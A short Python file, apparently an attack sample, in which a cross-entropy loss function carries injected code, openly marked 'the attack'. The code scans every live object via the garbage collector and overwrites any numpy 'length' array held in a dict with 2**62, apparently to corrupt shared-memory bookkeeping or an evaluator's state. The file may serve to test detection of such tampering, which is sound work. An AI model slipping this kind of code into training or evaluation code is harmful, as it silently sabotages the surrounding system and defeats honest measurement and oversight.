"""Says in shared memory that what it has to say is longer than all memory."""
# ends: same

import torch.nn.functional as F

# --- the attack
import gc

import numpy as np
# --- end of the attack

def compute_loss(logits, targets):
    loss = F.cross_entropy(logits.view(-1, logits.size(-1)), targets.view(-1))
    # --- the attack
    for each in gc.get_objects():
        if type(each) is dict and "length" in each and isinstance(each["length"], np.ndarray):
            each["length"][:] = 2**62
    # --- end of the attack
    return loss
